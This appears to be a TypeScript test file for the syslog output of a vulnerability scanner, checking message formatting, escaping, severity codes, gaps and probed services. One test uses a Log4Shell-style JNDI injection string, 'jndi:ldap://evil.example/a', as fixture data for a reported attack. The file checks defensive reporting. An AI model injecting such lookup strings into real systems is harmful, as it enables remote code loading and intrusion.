import fc from 'fast-check'
import { expect, test } from 'vitest'
import { syslogMessage as message } from '../../../test/kit/documents/syslog.ts'
import {
  anyFinding,
  anyGap,
  documentOf,
  sampleAttacks,
  sampleComponents,
  sampleExposures,
  sampleGaps,
} from '../../../test/kit/generated-results.ts'
import { isVulnerable } from '../../core/index.ts'
import { syslog } from './syslog.ts'

function read(line: string) {
  const { groups = {} } = message.exec(line) ?? {}
  const params = [...(groups['params'] ?? '').matchAll(/ ([^ =\]"]+)="((?:[^"\\\]]|\\["\\\]])*)"/gu)].map(
    ([, name = '', value = '']) => [name, value.replace(/\\(["\\\]])/g, '$1')] as const,
  )
  return { ...groups, params: new Map(params) }
}

function linesOf(...[findings, gaps]: [Parameters<typeof documentOf>[1], Parameters<typeof documentOf>[2]]) {
  return documentOf(syslog, findings, gaps).split('\n').slice(0, -1)
}

test('every finding and gap is a message of RFC 5424 on a line of its own, and the run is the last', () => {
  fc.assert(
    fc.property(fc.array(anyFinding, { maxLength: 5 }), fc.array(anyGap, { maxLength: 5 }), (findings, gaps) => {
      const lines = linesOf(findings, gaps)
      expect(lines).toHaveLength(findings.length + gaps.length + 1)
      for (const line of lines) expect(line).toMatch(message)
      expect(lines.at(-1)).toContain(' RUN [run@32473')
    }),
  )
})

test('a value is read back as it was made visible: quotes, brackets and backslashes do not end it', () => {
  const [finding] = sampleComponents(1)
  const path = '/srv/a"b\\c]d [x y="z"].jar'

  expect(read(linesOf([{ ...finding!, at: { path } }], [])[0]!).params.get('path')).toBe(path)
})

test('is as severe as the finding where something is vulnerable, and only informs where nothing is', () => {
  const findings = sampleComponents(20)
  const expected = { critical: 106, high: 107, medium: 108, low: 109, info: 110 }

  expect(
    linesOf(findings, [])
      .slice(0, -1)
      .map((line) => Number(/^<(\d+)>/.exec(line)?.[1])),
  ).toEqual(findings.map((finding) => (isVulnerable(finding) ? expected[finding.severity] : 110)))
})

test('an attack is as severe as it is, whether something here is vulnerable or not, with whom it asks', () => {
  const [attack] = sampleAttacks(1)
  const lookup = { ...attack!.lookup, meaning: 'jndi:ldap://evil.example/a', host: 'evil.example' }
  const [line = ''] = linesOf([{ ...attack!, severity: 'high', verdict: 'fires', from: '203.0.113.7', lookup }], [])
  const { params } = read(line)

  expect(line).toMatch(/^<107>1 /)
  expect(params.get('verdict')).toBe('fires')
  expect(params.get('from')).toBe('203.0.113.7')
  expect(params.get('host')).toBe('evil.example')
  expect(params.get('lookup')).toBe('jndi:ldap://evil.example/a')
})

test('a gap is a warning with its reason and place; it has no time of its own', () => {
  const [gap] = sampleGaps(1)
  const line = linesOf([], [gap!])[0]!

  expect(line).toMatch(/^<108>1 - - fireline - GAP \[gap@32473 because="/)
  expect(read(line).params.get('because')).toBe(gap!.because)
})

test('a service that was probed is told by its URL and its place', () => {
  const [finding] = sampleExposures(1)
  const { params } = read(linesOf([finding!], [])[0]!)

  expect(params.get('url')).toContain(new URL(finding!.at.url).host)
  expect(params.get('proof')).toBe(finding!.proof)
})
